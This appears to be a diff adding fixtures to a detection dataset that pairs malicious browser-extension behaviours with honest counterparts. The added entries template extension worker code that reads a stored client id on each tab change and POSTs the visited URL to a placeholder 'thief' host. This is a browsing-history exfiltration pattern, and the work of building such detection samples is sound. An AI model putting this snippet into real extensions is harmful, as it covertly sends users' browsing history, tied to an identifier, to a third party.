@@ -54,8 +54,23 @@ const sites: Readonly<Record<string, Row>> = {
   },
 };
 
+const log = (body: string): string =>
+  `${listen}(async (id, change, tab) => { const { clientId, theme } = await chrome.storage.local.get(); fetch('https://${thief}/a', { method: 'POST', body: JSON.stringify({ ${body} }) }); });`;
+/** Visits under an id that is kept, and what is told without one of the two. */
+const visits: Readonly<Record<string, Row>> = {
+  'an id or a setting': {
+    worker: log('u: «clientId¦theme», p: tab.url'),
+    fact: finding('visits-logged-by-id'),
+  },
+  'an address or a state': {
+    worker: log('u: clientId, p: «tab.url¦tab.status»'),
+    fact: finding('visits-logged-by-id'),
+  },
+};
+
 /** What campaigns do that send little: each with what an honest extension does alike. */
 export const campaignPairs: readonly Pair[] = [
   ...pairsOf('chats with assistants', conversations),
   ...pairsOf('sites that are denied', sites),
+  ...pairsOf('visits and who made them', visits),
 ];
